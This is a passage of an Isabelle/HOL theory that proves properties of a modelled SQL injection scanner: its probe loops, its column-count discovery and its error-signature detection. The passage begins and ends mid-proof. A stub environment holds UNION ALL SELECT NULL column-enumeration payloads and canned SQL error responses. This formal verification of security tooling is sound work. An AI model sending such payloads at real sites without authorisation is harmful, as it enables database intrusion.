  obtain ev e where req: "column_requests (httpGet env) (probe_requests u (sanitized p)) = (ev, e)"
    by (cases "column_requests (httpGet env) (probe_requests u (sanitized p))")
  have acc: "accepted env u p = (e = Returned)"
    using column_requests_Returned[of "httpGet env" "probe_requests u (sanitized p)"] req
    by (simp add: accepted_def)
  show ?case
  proof (cases "e = Returned")
    case True
    then have "snd (column_loop env scanConfig url i (p # rest)) = Inr (i + 1)"
      using san req assms(1) by simp
    moreover have "accepted env u p" using acc True by simp
    ultimately show ?thesis by (auto intro!: exI[of _ 0])
  next
    case False
    have rest: "\<forall>p\<in>set rest. int (length p) \<le> maxPayloadLength scanConfig"
      using Cons.prems by simp
    obtain n where n: "snd (column_loop env scanConfig url (i + 1) rest) = Inr n"
      and nn: "if \<exists>p\<in>set rest. accepted env u p
               then \<exists>k<length rest. n = (i + 1) + k + 1 \<and> accepted env u (rest ! k)
                      \<and> (\<forall>j<k. \<not> accepted env u (rest ! j))
               else n = 0"
      using Cons.IH[OF rest, of "i + 1"] by blast
    have step: "snd (column_loop env scanConfig url i (p # rest)) = Inr n"
      using san req assms(1) False n by (cases e) (auto split: prod.splits)
    have nacc: "\<not> accepted env u p" using acc False by simp
    show ?thesis
    proof (cases "\<exists>p\<in>set rest. accepted env u p")
      case True
      then obtain k where k: "k < length rest" "n = (i + 1) + k + 1" "accepted env u (rest ! k)"
        "\<forall>j<k. \<not> accepted env u (rest ! j)"
        using nn by auto
      have "\<forall>j<Suc k. \<not> accepted env u ((p # rest) ! j)"
      proof (intro allI impI)
        fix j assume "j < Suc k"
        then show "\<not> accepted env u ((p # rest) ! j)" using k(4) nacc by (cases j) auto
      qed
      then have "\<exists>k'<length (p # rest). n = i + k' + 1 \<and> accepted env u ((p # rest) ! k')
                      \<and> (\<forall>j<k'. \<not> accepted env u ((p # rest) ! j))"
        using k by (intro exI[of _ "Suc k"]) auto
      then show ?thesis using step True by auto
    next
      case False
      then show ?thesis using step nn nacc by auto
    qed
  qed
qed

lemma probe_requests_nonempty: "searchParams u \<noteq> [] \<Longrightarrow> probe_requests u v \<noteq> []"
  by (simp add: probe_requests_def param_loop_step)

lemma probe_stops_never:
  assumes "\<forall>r\<in>set reqs. \<exists>b. get r = Some b \<and> \<not> P b"
  shows "\<not> probe_stops P get reqs"
  using assms by (induction reqs) (auto simp add: probe_stops_Nil probe_stops_Cons)

lemma probe_stops_first:
  assumes "reqs \<noteq> []" and "\<forall>r\<in>set reqs. \<exists>b. get r = Some b \<and> P b"
  shows "probe_stops P get reqs"
  using assms by (cases reqs) (auto simp add: probe_stops_Cons)

lemma probe_clean_all_error:
  assumes "\<forall>r\<in>set reqs. \<exists>b. get r = Some b \<and> str_includes (toLowerCase b) ''error''"
  shows "\<not> probe_clean get reqs"
  unfolding probe_clean_def using assms by (intro probe_stops_never) (simp add: no_error_def)

lemma probe_clean_first:
  assumes "reqs \<noteq> []"
    and "\<forall>r\<in>set reqs. \<exists>b. get r = Some b \<and> \<not> str_includes (toLowerCase b) ''error''"
  shows "probe_clean get reqs"
  unfolding probe_clean_def using assms by (intro probe_stops_first) (simp_all add: no_error_def)

lemma findColumnCount_result:
  assumes "parseURL env url = Some u"
    and "\<forall>p\<in>set (COLUMN_PAYLOADS env). int (length p) \<le> maxPayloadLength scanConfig"
  shows "\<exists>n. snd (findColumnCount env url scanConfig) = Inr n
           \<and> (if \<exists>p\<in>set (COLUMN_PAYLOADS env). accepted env u p
               then \<exists>k<length (COLUMN_PAYLOADS env). n = k + 1 \<and> accepted env u (COLUMN_PAYLOADS env ! k)
                      \<and> (\<forall>j<k. \<not> accepted env u (COLUMN_PAYLOADS env ! j))
               else n = 0)"
  using column_loop_result[OF assms, of 0] unfolding findColumnCount_def by (simp only: add_0)

lemma no_columns_aborts:
  assumes "testBasicVulnerability env url initial_result scanConfig = (ev1, Inr (True, r1))"
    and "findColumnCount env url scanConfig = (ev2, Inr 0)"
    and "parseURL env url = Some u"
  shows "testSQLInjection env url scanConfig =
           (ev1 @ Logged INFO BasicVulnerabilityConfirmed # ev2 @ [Logged WARN NoColumnsFound],
            Inr (r1\<lparr>vulnerable := True\<rparr>))"
  using assms by (simp add: testSQLInjection_def validateUrl_def)

lemma probe_fails_Nil: "\<not> probe_fails P get []"
  by (simp add: probe_fails_def)

lemma probe_fails_Cons:
  "probe_fails P get (r # rs) =
     (case get r of
        None \<Rightarrow> True
      | Some b \<Rightarrow> \<not> P b \<and> probe_fails P get rs)"
proof (cases "get r")
  case None
  have "probe_fails P get (r # rs)"
    unfolding probe_fails_def using None by (intro exI[of _ 0]) simp
  then show ?thesis using None by simp
next
  case (Some body)
  have "probe_fails P get (r # rs) = (\<not> P body \<and> probe_fails P get rs)"
  proof
    assume "probe_fails P get (r # rs)"
    then obtain k where k: "k < length (r # rs)"
      and a: "\<forall>j<k. \<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
      and b: "get ((r # rs) ! k) = None"
      unfolding probe_fails_def by blast
    obtain k' where k': "k = Suc k'" using b Some by (cases k) auto
    have a0: "\<not> P body" using a[rule_format, of 0] k' Some by simp
    have "\<forall>j<k'. \<exists>b. get (rs ! j) = Some b \<and> \<not> P b"
    proof (intro allI impI)
      fix j assume "j < k'"
      then have "Suc j < k" using k' by simp
      then show "\<exists>b. get (rs ! j) = Some b \<and> \<not> P b"
        using a[rule_format, of "Suc j"] by simp
    qed
    then have "probe_fails P get rs"
      unfolding probe_fails_def using k b k' by (intro exI[of _ k']) auto
    then show "\<not> P body \<and> probe_fails P get rs" using a0 by simp
  next
    assume h: "\<not> P body \<and> probe_fails P get rs"
    then obtain k where k: "k < length rs"
      and a: "\<forall>j<k. \<exists>b. get (rs ! j) = Some b \<and> \<not> P b"
      and b: "get (rs ! k) = None"
      unfolding probe_fails_def by blast
    have "\<forall>j<Suc k. \<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
    proof (intro allI impI)
      fix j assume "j < Suc k"
      then show "\<exists>b. get ((r # rs) ! j) = Some b \<and> \<not> P b"
        using a Some h by (cases j) auto
    qed
    then show "probe_fails P get (r # rs)"
      unfolding probe_fails_def using k b by (intro exI[of _ "Suc k"]) auto
  qed
  then show ?thesis using Some by simp
qed

lemma signature_found_fold: "signature_match (toLowerCase b) = signature_found b"
  by (simp add: signature_found_def)

lemma detection_requests_Returned:
  "(snd (detection_requests get reqs) = Returned) = probe_stops signature_found get reqs"
proof (induction reqs)
  case Nil
  show ?case by (simp add: probe_stops_Nil)
next
  case (Cons r rs)
  then show ?case
    by (auto simp add: probe_stops_Cons signature_found_fold split: option.splits prod.splits)
qed

lemma detection_requests_Threw:
  "(snd (detection_requests get reqs) = Threw) = probe_fails signature_found get reqs"
proof (induction reqs)
  case Nil
  show ?case by (simp add: probe_fails_Nil)
next
  case (Cons r rs)
  then show ?case
    by (auto simp add: probe_fails_Cons signature_found_fold split: option.splits prod.splits)
qed

lemmas detection_requests_end = detection_requests_Returned detection_requests_Threw

lemma detection_loop_result:
  assumes "parseURL env url = Some u"
    and "\<forall>p\<in>set ps. int (length p) \<le> maxPayloadLength scanConfig"
  shows "if \<exists>p\<in>set ps. matched env u p
         then \<exists>k<length ps. matched env u (ps ! k) \<and> (\<forall>j<k. \<not> matched env u (ps ! j))
                \<and> snd (detection_loop env scanConfig url result ps) =
                    Inr (True, result\<lparr>successfulPayloads :=
                                        successfulPayloads result @ [sanitized (ps ! k)]\<rparr>)
         else snd (detection_loop env scanConfig url result ps) = Inr (False, result)"
  using assms(2)
proof (induction ps)
  case Nil
  then show ?case by simp
next
  case (Cons p rest)
  have san: "sanitizePayload (JString p) (maxPayloadLength scanConfig) = Inr (sanitized p)"
    using Cons.prems by (simp add: sanitizePayload_string)
  obtain ev e where req: "detection_requests (httpGet env) (probe_requests u (sanitized p)) = (ev, e)"
    by (cases "detection_requests (httpGet env) (probe_requests u (sanitized p))")
  have m: "matched env u p = (e = Returned)"
    using detection_requests_end(1)[of "httpGet env" "probe_requests u (sanitized p)"] req
    by (simp add: matched_def)
  show ?case
  proof (cases "e = Returned")
    case True
    then have "snd (detection_loop env scanConfig url result (p # rest)) =
        Inr (True, result\<lparr>successfulPayloads := successfulPayloads result @ [sanitized p]\<rparr>)"
      using san req assms(1) by simp
    moreover have "matched env u p" using m True by simp
    ultimately show ?thesis by (auto intro!: exI[of _ 0])
  next
    case False
    have rest: "\<forall>p\<in>set rest. int (length p) \<le> maxPayloadLength scanConfig"
      using Cons.prems by simp
    have step: "snd (detection_loop env scanConfig url result (p # rest))
                 = snd (detection_loop env scanConfig url result rest)"
      using san req assms(1) False by (cases e) (auto split: prod.splits)
    have nm: "\<not> matched env u p" using m False by simp
    show ?thesis
    proof (cases "\<exists>p\<in>set rest. matched env u p")
      case True
      then obtain k where k: "k < length rest" "matched env u (rest ! k)"
        "\<forall>j<k. \<not> matched env u (rest ! j)"
        "snd (detection_loop env scanConfig url result rest) =
           Inr (True, result\<lparr>successfulPayloads := successfulPayloads result @ [sanitized (rest ! k)]\<rparr>)"
        using Cons.IH[OF rest] by auto
      have "\<forall>j<Suc k. \<not> matched env u ((p # rest) ! j)"
      proof (intro allI impI)
        fix j assume "j < Suc k"
        then show "\<not> matched env u ((p # rest) ! j)" using k(3) nm by (cases j) auto
      qed
      then have "\<exists>k'<length (p # rest). matched env u ((p # rest) ! k')
          \<and> (\<forall>j<k'. \<not> matched env u ((p # rest) ! j))
          \<and> snd (detection_loop env scanConfig url result (p # rest)) =
             Inr (True, result\<lparr>successfulPayloads :=
                                  successfulPayloads result @ [sanitized ((p # rest) ! k')]\<rparr>)"
        using k step by (intro exI[of _ "Suc k"]) auto
      then show ?thesis using True by auto
    next
      case False
      then show ?thesis using step Cons.IH[OF rest] nm by auto
    qed
  qed
qed

lemma detection_loop_logs_failure:
  assumes "parseURL env url = Some u"
    and "\<forall>p\<in>set ps. int (length p) \<le> maxPayloadLength scanConfig"
    and "k < length ps" and "failed env u (ps ! k)" and "\<forall>j<k. \<not> matched env u (ps ! j)"
  shows "Logged WARN (ErrorTestingPayload (sanitized (ps ! k)))
           \<in> set (fst (detection_loop env scanConfig url result ps))"
  using assms(2-)
proof (induction ps arbitrary: k)
  case Nil
  then show ?case by simp
next
  case (Cons p rest)
  have san: "sanitizePayload (JString p) (maxPayloadLength scanConfig) = Inr (sanitized p)"
    using Cons.prems by (simp add: sanitizePayload_string)
  obtain ev e where req: "detection_requests (httpGet env) (probe_requests u (sanitized p)) = (ev, e)"
    by (cases "detection_requests (httpGet env) (probe_requests u (sanitized p))")
  have m: "matched env u p = (e = Returned)" and f: "failed env u p = (e = Threw)"
    using detection_requests_end[of "httpGet env" "probe_requests u (sanitized p)"] req
    by (simp_all add: matched_def failed_def)
  obtain ev' out where rec: "detection_loop env scanConfig url result rest = (ev', out)"
    by (cases "detection_loop env scanConfig url result rest")
  show ?case
  proof (cases k)
    case 0
    then have "e = Threw" using Cons.prems f by simp
    then show ?thesis using san req assms(1) rec 0 by simp
  next
    case (Suc k')
    have nm: "e \<noteq> Returned" using Cons.prems(4)[rule_format, of 0] Suc m by simp
    have "Logged WARN (ErrorTestingPayload (sanitized (rest ! k')))
           \<in> set (fst (detection_loop env scanConfig url result rest))"
    proof (rule Cons.IH)
      show "\<forall>p\<in>set rest. int (length p) \<le> maxPayloadLength scanConfig" using Cons.prems by simp
      show "k' < length rest" using Cons.prems Suc by simp
      show "failed env u (rest ! k')" using Cons.prems Suc by simp
      show "\<forall>j<k'. \<not> matched env u (rest ! j)"
      proof (intro allI impI)
        fix j assume "j < k'"
        then show "\<not> matched env u (rest ! j)"
          using Cons.prems(4)[rule_format, of "Suc j"] Suc by simp
      qed
    qed
    then show ?thesis using san req assms(1) rec Suc nm by (cases e) auto
  qed
qed

lemma fst_in_image: "(a, b) \<in> S \<Longrightarrow> a \<in> fst ` S"
  by (rule image_eqI[where x="(a, b)"]) simp_all

lemma not_in_names: "name \<notin> fst ` set ps \<Longrightarrow> delete_param name ps = ps"
proof -
  assume a: "name \<notin> fst ` set ps"
  have "fst x \<noteq> name" if "x \<in> set ps" for x
  proof
    assume "fst x = name"
    then have "(name, snd x) \<in> set ps" using that by (metis prod.collapse)
    then show False using a fst_in_image by metis
  qed
  then show ?thesis by (simp add: delete_param_def)
qed

lemma set_param_distinct:
  "distinct (map fst ps) \<Longrightarrow> i < length ps \<Longrightarrow>
   set_param (fst (ps ! i)) v ps = ps[i := (fst (ps ! i), v)]"
proof (induction ps arbitrary: i)
  case Nil
  then show ?case by simp
next
  case (Cons p rest)
  have np: "fst p \<notin> fst ` set rest" using Cons.prems(1) by simp
  show ?case
  proof (cases i)
    case 0
    then show ?thesis using not_in_names[OF np] by simp
  next
    case (Suc i')
    then have i': "i' < length rest" using Cons.prems(2) by simp
    then have "fst (rest ! i') \<in> fst ` set rest" by (metis nth_mem imageI)
    then have ne: "fst p \<noteq> fst (rest ! i')" using np by metis
    have d: "distinct (map fst rest)" using Cons.prems(1) by simp
    have "set_param (fst (rest ! i')) v (p # rest) = p # set_param (fst (rest ! i')) v rest"
      using ne by simp
    also have "\<dots> = p # rest[i' := (fst (rest ! i'), v)]"
      using Cons.IH[OF d i'] by simp
    finally show ?thesis using Suc by simp
  qed
qed

lemma param_loop_shape:
  "distinct (map fst ps) \<Longrightarrow>
   length (param_loop v ps i) = length ps - i
   \<and> (\<forall>m<length ps - i. length (param_loop v ps i ! m) = length ps
        \<and> (\<forall>j<length ps. (param_loop v ps i ! m) ! j =
              (if i \<le> j \<and> j \<le> i + m then (fst (ps ! j), v) else ps ! j)))"
proof (induction v ps i rule: param_loop.induct)
  case (1 v ps i)
  show ?case
  proof (cases "i < length ps")
    case False
    then show ?thesis by (simp add: param_loop_done)
  next
    case True
    define ps' where "ps' = set_param (fst (ps ! i)) v ps"
    have ps': "ps' = ps[i := (fst (ps ! i), v)]"
      unfolding ps'_def using set_param_distinct[OF "1.prems" True] .
    have "(map fst ps)[i := fst (ps ! i)] = map fst ps"
      using True by (simp add: list_update_same_conv)
    then have d': "distinct (map fst ps')"
      using "1.prems" by (simp add: ps' map_update)
    have unfold: "param_loop v ps i = ps' # param_loop v ps' (Suc i)"
      unfolding ps'_def using True by (rule param_loop_step)
    have IH: "length (param_loop v ps' (Suc i)) = length ps' - Suc i
       \<and> (\<forall>m<length ps' - Suc i. length (param_loop v ps' (Suc i) ! m) = length ps'
        \<and> (\<forall>j<length ps'. (param_loop v ps' (Suc i) ! m) ! j =
              (if Suc i \<le> j \<and> j \<le> Suc i + m then (fst (ps' ! j), v) else ps' ! j)))"
      using "1.IH"[OF True ps'_def d'] .
    have len': "length ps' = length ps" by (simp add: ps')
    have l: "length (param_loop v ps i) = length ps - i"
      using unfold IH True len' by simp
    have e: "length (param_loop v ps i ! m) = length ps
        \<and> (\<forall>j<length ps. (param_loop v ps i ! m) ! j =
              (if i \<le> j \<and> j \<le> i + m then (fst (ps ! j), v) else ps ! j))"
      if m: "m < length ps - i" for m
    proof (cases m)
      case 0
      have "\<forall>j<length ps. ps' ! j = (if i \<le> j \<and> j \<le> i + 0 then (fst (ps ! j), v) else ps ! j)"
        by (auto simp add: ps' nth_list_update)
      then show ?thesis using unfold len' 0 by simp
    next
      case (Suc m')
      then have m': "m' < length ps' - Suc i" using m len' by simp
      have a: "length (param_loop v ps' (Suc i) ! m') = length ps'"
        using IH m' by blast
      have b: "\<forall>j<length ps'. (param_loop v ps' (Suc i) ! m') ! j =
              (if Suc i \<le> j \<and> j \<le> Suc i + m' then (fst (ps' ! j), v) else ps' ! j)"
        using IH m' by blast
      have "(param_loop v ps i ! m) ! j =
              (if i \<le> j \<and> j \<le> i + m then (fst (ps ! j), v) else ps ! j)"
        if j: "j < length ps" for j
      proof -
        have "(param_loop v ps i ! m) ! j = (param_loop v ps' (Suc i) ! m') ! j"
          using unfold Suc by simp
        also have "\<dots> = (if Suc i \<le> j \<and> j \<le> Suc i + m' then (fst (ps' ! j), v) else ps' ! j)"
          using b j len' by simp
        also have "\<dots> = (if i \<le> j \<and> j \<le> i + m then (fst (ps ! j), v) else ps ! j)"
          using Suc j True by (auto simp add: ps' nth_list_update)
        finally show ?thesis .
      qed
      then show ?thesis using a unfold Suc len' by simp
    qed
    show ?thesis using l e by blast
  qed
qed

lemma probe_requests_shape:
  assumes "distinct (map fst (searchParams u))"
  shows "length (probe_requests u v) = length (searchParams u)
    \<and> (\<forall>k<length (searchParams u). \<forall>j<length (searchParams u).
         searchParams (probe_requests u v ! k) ! j =
           (if j \<le> k then (fst (searchParams u ! j), v) else searchParams u ! j))"
  using param_loop_shape[OF assms, of v 0]
  by (simp add: probe_requests_def)

section \<open>Column count discovery\<close>

text \<open>
  Claim C5. For a valid URL and column payloads within the length limit,
  \<open>findColumnCount\<close> returns a number \<open>n\<close> of at most the length \<open>K\<close> of the payload list;
  when \<open>n\<close> is positive, probe \<open>n\<close> (the \<open>n\<close>-th payload of the list) is the first accepted
  one, a probe being accepted when a response of it, before any of its requests fails,
  does not contain \<open>error\<close>; \<open>n\<close> is 0 exactly when no probe is accepted; with \<open>n = 0\<close>
  \<open>testSQLInjection\<close> returns the result of the detection stage marked vulnerable, after
  logging that no columns were found and without any further request; and when the
  responses of probes 1 and 2 all contain \<open>error\<close> and those of probe 3 do not, \<open>n\<close> is 3.
\<close>

theorem column_count_discovery:
  assumes "parseURL env url = Some u"
    and "\<forall>p\<in>set (COLUMN_PAYLOADS env). int (length p) \<le> maxPayloadLength scanConfig"
  shows "\<exists>n. snd (findColumnCount env url scanConfig) = Inr n
       \<and> n \<le> length (COLUMN_PAYLOADS env)
       \<and> (0 < n \<longrightarrow> accepted env u (COLUMN_PAYLOADS env ! (n - 1))
                  \<and> (\<forall>m. 1 \<le> m \<and> m < n \<longrightarrow> \<not> accepted env u (COLUMN_PAYLOADS env ! (m - 1))))
       \<and> (n = 0 \<longrightarrow> (\<forall>m. 1 \<le> m \<and> m \<le> length (COLUMN_PAYLOADS env)
                          \<longrightarrow> \<not> accepted env u (COLUMN_PAYLOADS env ! (m - 1))))
       \<and> (n = 0 \<longrightarrow> (\<forall>ev1 r1. testBasicVulnerability env url initial_result scanConfig = (ev1, Inr (True, r1))
             \<longrightarrow> testSQLInjection env url scanConfig =
                   (ev1 @ Logged INFO BasicVulnerabilityConfirmed # fst (findColumnCount env url scanConfig)
                      @ [Logged WARN NoColumnsFound],
                    Inr (r1\<lparr>vulnerable := True\<rparr>))))
       \<and> (3 \<le> length (COLUMN_PAYLOADS env) \<and> searchParams u \<noteq> []
            \<and> (\<forall>m. 1 \<le> m \<and> m < 3 \<longrightarrow>
                  (\<forall>r\<in>set (probe_requests u (sanitized (COLUMN_PAYLOADS env ! (m - 1)))).
                     \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error''))
            \<and> (\<forall>r\<in>set (probe_requests u (sanitized (COLUMN_PAYLOADS env ! 2))).
                     \<exists>b. httpGet env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error'')
          \<longrightarrow> n = 3)"
proof -
  let ?cp = "COLUMN_PAYLOADS env"
  obtain n where n: "snd (findColumnCount env url scanConfig) = Inr n"
    and c: "if \<exists>p\<in>set ?cp. accepted env u p
               then \<exists>k<length ?cp. n = k + 1 \<and> accepted env u (?cp ! k)
                      \<and> (\<forall>j<k. \<not> accepted env u (?cp ! j))
               else n = 0"
    using findColumnCount_result[OF assms] by blast
  have bound: "n \<le> length ?cp" using c by (auto split: if_splits)
  have pos: "accepted env u (?cp ! (n - 1)) \<and> (\<forall>m. 1 \<le> m \<and> m < n \<longrightarrow> \<not> accepted env u (?cp ! (m - 1)))"
    if npos: "0 < n"
  proof -
    obtain k where k: "k < length ?cp" "n = k + 1" "accepted env u (?cp ! k)"
      "\<forall>j<k. \<not> accepted env u (?cp ! j)"
      using c npos by (auto split: if_splits)
    have "\<not> accepted env u (?cp ! (m - 1))" if "1 \<le> m \<and> m < n" for m
    proof -
      have "m - 1 < k" using that k(2) by arith
      then show ?thesis using k(4) by blast
    qed
    then show ?thesis using k by simp
  qed
  have zero: "\<forall>m. 1 \<le> m \<and> m \<le> length ?cp \<longrightarrow> \<not> accepted env u (?cp ! (m - 1))" if "n = 0"
  proof (intro allI impI)
    fix m assume m: "1 \<le> m \<and> m \<le> length ?cp"
    have "\<not> (\<exists>p\<in>set ?cp. accepted env u p)" using c that by (auto split: if_splits)
    moreover have "m - 1 < length ?cp" using m by arith
    then have "?cp ! (m - 1) \<in> set ?cp" by simp
    ultimately show "\<not> accepted env u (?cp ! (m - 1))" by blast
  qed
  have abort: "testSQLInjection env url scanConfig =
                   (ev1 @ Logged INFO BasicVulnerabilityConfirmed # fst (findColumnCount env url scanConfig)
                      @ [Logged WARN NoColumnsFound],
                    Inr (r1\<lparr>vulnerable := True\<rparr>))"
    if "n = 0" "testBasicVulnerability env url initial_result scanConfig = (ev1, Inr (True, r1))"
    for ev1 r1
  proof -
    have "findColumnCount env url scanConfig = (fst (findColumnCount env url scanConfig), Inr 0)"
      using n that(1) by (cases "findColumnCount env url scanConfig") simp
    then show ?thesis using no_columns_aborts[OF that(2) _ assms(1)] by simp
  qed
  have stub: "n = 3"
    if len: "3 \<le> length ?cp" and ne: "searchParams u \<noteq> []"
      and err: "\<forall>m. 1 \<le> m \<and> m < 3 \<longrightarrow>
                  (\<forall>r\<in>set (probe_requests u (sanitized (?cp ! (m - 1)))).
                     \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error'')"
      and ok: "\<forall>r\<in>set (probe_requests u (sanitized (?cp ! 2))).
                     \<exists>b. httpGet env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error''"
  proof -
    have a2: "accepted env u (?cp ! 2)"
      unfolding accepted_def using probe_clean_first[OF probe_requests_nonempty[OF ne] ok] .
    have e0: "\<forall>r\<in>set (probe_requests u (sanitized (?cp ! 0))).
                     \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error''"
      using err[rule_format, of 1] by simp
    have e1: "\<forall>r\<in>set (probe_requests u (sanitized (?cp ! 1))).
                     \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error''"
      using err[rule_format, of 2] by simp
    have a0: "\<not> accepted env u (?cp ! 0)"
      unfolding accepted_def by (rule probe_clean_all_error[OF e0])
    have a1: "\<not> accepted env u (?cp ! 1)"
      unfolding accepted_def by (rule probe_clean_all_error[OF e1])
    have "?cp ! 2 \<in> set ?cp" using len by simp
    then have "\<exists>p\<in>set ?cp. accepted env u p" using a2 by blast
    then obtain k where k: "k < length ?cp" "n = k + 1" "accepted env u (?cp ! k)"
      "\<forall>j<k. \<not> accepted env u (?cp ! j)"
      using c by (auto split: if_splits)
    have "k \<le> 2" using k(4)[rule_format, of 2] a2 by (cases "2 < k") auto
    moreover have "k \<noteq> 0" using k(3) a0 by (rule_tac notI) simp
    moreover have "k \<noteq> 1" using k(3) a1 by (rule_tac notI) simp
    ultimately have "k = 2" by simp
    then show ?thesis using k(2) by simp
  qed
  show ?thesis
  proof (intro exI[of _ n] conjI)
    show "snd (findColumnCount env url scanConfig) = Inr n" by (rule n)
    show "n \<le> length ?cp" by (rule bound)
    show "0 < n \<longrightarrow> accepted env u (?cp ! (n - 1))
                  \<and> (\<forall>m. 1 \<le> m \<and> m < n \<longrightarrow> \<not> accepted env u (?cp ! (m - 1)))"
      using pos by blast
    show "n = 0 \<longrightarrow> (\<forall>m. 1 \<le> m \<and> m \<le> length ?cp \<longrightarrow> \<not> accepted env u (?cp ! (m - 1)))"
      using zero by blast
    show "n = 0 \<longrightarrow> (\<forall>ev1 r1. testBasicVulnerability env url initial_result scanConfig = (ev1, Inr (True, r1))
             \<longrightarrow> testSQLInjection env url scanConfig =
                   (ev1 @ Logged INFO BasicVulnerabilityConfirmed # fst (findColumnCount env url scanConfig)
                      @ [Logged WARN NoColumnsFound],
                    Inr (r1\<lparr>vulnerable := True\<rparr>)))"
      using abort by blast
    show "3 \<le> length ?cp \<and> searchParams u \<noteq> []
            \<and> (\<forall>m. 1 \<le> m \<and> m < 3 \<longrightarrow>
                  (\<forall>r\<in>set (probe_requests u (sanitized (?cp ! (m - 1)))).
                     \<exists>b. httpGet env r = Some b \<and> str_includes (toLowerCase b) ''error''))
            \<and> (\<forall>r\<in>set (probe_requests u (sanitized (?cp ! 2))).
                     \<exists>b. httpGet env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error'')
          \<longrightarrow> n = 3"
      using stub by blast
  qed
qed

lemma column_env_requests:
  "probe_requests stub_url (sanitized (COLUMN_PAYLOADS column_env ! 0)) =
     [stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL--'')]\<rparr>]"
  "probe_requests stub_url (sanitized (COLUMN_PAYLOADS column_env ! 1)) =
     [stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL--'')]\<rparr>]"
  "probe_requests stub_url (sanitized (COLUMN_PAYLOADS column_env ! 2)) =
     [stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL,NULL--'')]\<rparr>]"
  by code_simp+

lemma column_env_responses:
  "httpGet column_env (stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL--'')]\<rparr>)
     = Some ''SQL Error: the used SELECT statements have a different number of columns''"
  "httpGet column_env (stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL--'')]\<rparr>)
     = Some ''SQL Error: the used SELECT statements have a different number of columns''"
  "httpGet column_env (stub_url\<lparr>searchParams := [(''id'', ''' UNION ALL SELECT NULL,NULL,NULL--'')]\<rparr>)
     = Some ''<html>3 rows</html>''"
  "str_includes (toLowerCase ''SQL Error: the used SELECT statements have a different number of columns'') ''error''"
  "\<not> str_includes (toLowerCase ''<html>3 rows</html>'') ''error''"
  by code_simp+

theorem column_count_discovery_witness:
  "parseURL column_env ''http://t.com/item?id=1'' = Some stub_url
   \<and> list_all (\<lambda>p. int (length p) \<le> maxPayloadLength SCAN_CONFIG) (COLUMN_PAYLOADS column_env)
   \<and> snd (findColumnCount column_env ''http://t.com/item?id=1'' SCAN_CONFIG) = Inr 3"
proof -
  have p: "parseURL column_env ''http://t.com/item?id=1'' = Some stub_url"
    by (simp add: column_env_def stub_parse_def)
  have fit: "list_all (\<lambda>p. int (length p) \<le> maxPayloadLength SCAN_CONFIG) (COLUMN_PAYLOADS column_env)"
    by (simp add: column_env_def SCAN_CONFIG_def)
  then have fit': "\<forall>p\<in>set (COLUMN_PAYLOADS column_env). int (length p) \<le> maxPayloadLength SCAN_CONFIG"
    by (simp add: list_all_iff)
  have len: "3 \<le> length (COLUMN_PAYLOADS column_env)" "searchParams stub_url \<noteq> []"
    by (simp_all add: column_env_def stub_url_def)
  have err: "\<forall>m. 1 \<le> m \<and> m < 3 \<longrightarrow>
       (\<forall>r\<in>set (probe_requests stub_url (sanitized (COLUMN_PAYLOADS column_env ! (m - 1)))).
           \<exists>b. httpGet column_env r = Some b \<and> str_includes (toLowerCase b) ''error'')"
  proof (intro allI impI)
    fix m :: nat assume "1 \<le> m \<and> m < 3"
    then have "m = 1 \<or> m = 2" by arith
    then show "\<forall>r\<in>set (probe_requests stub_url (sanitized (COLUMN_PAYLOADS column_env ! (m - 1)))).
           \<exists>b. httpGet column_env r = Some b \<and> str_includes (toLowerCase b) ''error''"
      using column_env_requests column_env_responses by auto
  qed
  have ok: "\<forall>r\<in>set (probe_requests stub_url (sanitized (COLUMN_PAYLOADS column_env ! 2))).
           \<exists>b. httpGet column_env r = Some b \<and> \<not> str_includes (toLowerCase b) ''error''"
    using column_env_requests column_env_responses by simp
  show ?thesis
    using column_count_discovery[OF p fit'] len err ok p fit by auto
qed

section \<open>Detection\<close>

text \<open>
  Claim C4, as amended. For a valid URL and detection payloads within the length limit,
  \<open>testBasicVulnerability\<close> takes the payloads in the order of the list. A payload is
  matched when a response of it, before any of its requests fails, matches the signature
  pattern without regard to case. The function returns true with the sanitized form of
  the first matched payload appended to \<open>successfulPayloads\<close>, and false with the result
  unchanged when no payload is matched; a payload whose request fails before a match is
  logged with a warning once the loop reaches it, and the loop goes on with the next
  payload. The payload is substituted into the query parameters one after the other on
  one URL object: with distinct parameter names there is one request per parameter, and
  request \<open>k\<close> carries the payload in the parameters up to and including the \<open>k\<close>-th and
  the original values in the others.
\<close>

theorem detection_probe:
  assumes "parseURL env url = Some u"
    and "\<forall>p\<in>set (DETECTION_PAYLOADS env). int (length p) \<le> maxPayloadLength scanConfig"
  shows "(\<forall>k<length (DETECTION_PAYLOADS env).
            matched env u (DETECTION_PAYLOADS env ! k)
            \<and> (\<forall>j<k. \<not> matched env u (DETECTION_PAYLOADS env ! j)) \<longrightarrow>
            snd (testBasicVulnerability env url result scanConfig) =
              Inr (True, result\<lparr>successfulPayloads :=
                           successfulPayloads result @ [sanitized (DETECTION_PAYLOADS env ! k)]\<rparr>))
     \<and> ((\<forall>p\<in>set (DETECTION_PAYLOADS env). \<not> matched env u p) \<longrightarrow>
            snd (testBasicVulnerability env url result scanConfig) = Inr (False, result))
     \<and> (\<forall>k<length (DETECTION_PAYLOADS env).
            failed env u (DETECTION_PAYLOADS env ! k)
            \<and> (\<forall>j<k. \<not> matched env u (DETECTION_PAYLOADS env ! j)) \<longrightarrow>
            Logged WARN (ErrorTestingPayload (sanitized (DETECTION_PAYLOADS env ! k)))
              \<in> set (fst (testBasicVulnerability env url result scanConfig)))
     \<and> (distinct (map fst (searchParams u)) \<longrightarrow>
          (\<forall>v. length (probe_requests u v) = length (searchParams u)
              \<and> (\<forall>k<length (searchParams u). \<forall>j<length (searchParams u).
                    searchParams (probe_requests u v ! k) ! j =
